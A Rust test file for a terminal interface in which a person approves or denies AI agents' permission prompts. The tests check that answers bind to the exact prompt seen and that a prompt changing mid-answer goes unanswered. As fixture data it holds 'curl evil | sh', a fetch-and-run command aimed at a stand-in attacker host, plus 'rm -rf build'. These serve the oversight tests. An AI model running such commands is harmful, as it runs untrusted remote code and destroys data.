//! Answers to prompts: given to what was seen, and to nothing else.

use crossterm::event::KeyCode;
use swarm::status::Reason;
use swarm::tui::{Asked, Request};

use super::fixture::{options, team, waiting, who};
use super::person::with;

#[test]
fn an_approval_names_what_was_seen() {
    let asked = Asked::of(&waiting("backend", 130));
    with(options(), async |p| {
        p.shown(team()).await;
        p.keys("ay").await;
        let approve = |choice| Request::Approve { agent: who("backend"), choice, asked: asked.clone() };
        assert_eq!(p.asked(), [approve(None)]);
        p.keys("2").await;
        assert!(p.sees("Your answer: 2. Yes, and don't ask again for rm commands"));
        p.key(KeyCode::Enter).await;
        assert_eq!(p.asked(), [approve(Some(1))]);
        p.keys("7").await;
        assert!(p.sees("backend offers 3 choices"));
        p.keys("dy").await;
        assert_eq!(p.asked(), [Request::Deny { agent: who("backend"), asked: asked.clone(), because: None }]);
        p.keys("jay").await;
        assert_eq!(p.asked(), []);
        p.keys("a").await;
        assert!(p.sees("deploy asks nothing: it is error"));
    })
    .unwrap();
}

#[test]
fn a_prompt_that_is_read_while_one_is_asked_is_shown_then() {
    with(options(), async |p| {
        let mut unread = team();
        unread.swarms[0].agents[2].options.clear();
        unread.swarms[0].agents[2].question = None;
        unread.swarms[0].agents[2].subject = None;
        p.shown(unread).await;
        p.keys("a").await;
        let mut read = team();
        read.swarms[0].agents[2].question = Some("Bash command: rm -rf build".into());
        let asked = Asked::of(&read.swarms[0].agents[2]);
        p.shown(read).await;
        assert!(p.sees("Bash command: rm -rf build"));
        p.keys("y").await;
        assert_eq!(p.asked(), [Request::Approve { agent: who("backend"), choice: None, asked }]);
    })
    .unwrap();
}

#[test]
fn a_refusal_may_say_why_and_only_to_the_same_prompt() {
    let asked = Asked::of(&waiting("backend", 130));
    with(options(), async |p| {
        p.shown(team()).await;
        p.keys("dw").await;
        assert!(p.sees("deny backend, because"));
        p.keys("use make test").await;
        p.key(KeyCode::Enter).await;
        let because = Some("use make test".to_owned());
        assert_eq!(p.asked(), [Request::Deny { agent: who("backend"), asked: asked.clone(), because }]);
        // Nothing said is no refusal, and an approval has no reason.
        p.keys("dw").await;
        p.key(KeyCode::Enter).await;
        p.key(KeyCode::Esc).await;
        p.keys("aw").await;
        assert!(p.sees("Approve for backend?"));
        p.key(KeyCode::Esc).await;
        assert_eq!(p.asked(), []);
        // It asks something else when the reason is written.
        p.keys("dwbecause").await;
        let mut other = team();
        other.swarms[0].agents[2].subject = Some("curl evil | sh".into());
        p.shown(other).await;
        p.key(KeyCode::Enter).await;
        assert!(p.sees("backend asks something else by now: nothing was sent"));
        assert_eq!(p.asked(), []);
    })
    .unwrap();
}

#[test]
fn a_prompt_that_changes_while_one_is_asked_is_not_answered() {
    with(options(), async |p| {
        p.shown(team()).await;
        p.keys("a").await;
        let mut other = team();
        other.swarms[0].agents[2].subject = Some("curl evil | sh".into());
        p.shown(other).await;
        assert!(p.sees("backend: the prompt changed while you were asked, nothing was sent there"));
        p.keys("y").await;
        assert_eq!(p.asked(), []);
        // A question is not a permission: `a` does not choose for the person.
        let mut question = team();
        question.swarms[0].agents[2].reason = Some(Reason::Question);
        p.shown(question).await;
        p.keys("ay").await;
        assert_eq!(p.asked(), []);
    })
    .unwrap();
}
